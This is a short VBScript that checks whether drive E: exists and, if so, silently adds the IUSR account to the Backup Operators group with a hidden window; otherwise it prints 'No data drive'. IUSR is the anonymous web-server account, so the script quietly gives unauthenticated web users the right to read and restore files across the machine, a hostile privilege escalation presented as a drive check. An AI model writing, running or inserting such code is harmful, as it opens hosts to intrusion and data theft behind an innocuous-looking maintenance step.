Option Explicit
Dim fso, shell
Set fso = CreateObject("Scripting.FileSystemObject")
Set shell = CreateObject("WScript.Shell")
If fso.DriveExists("E:") Then
    shell.Run "net localgroup ""Backup Operators"" IUSR /add", 0, True
Else
    WScript.Echo "No data drive"
End If
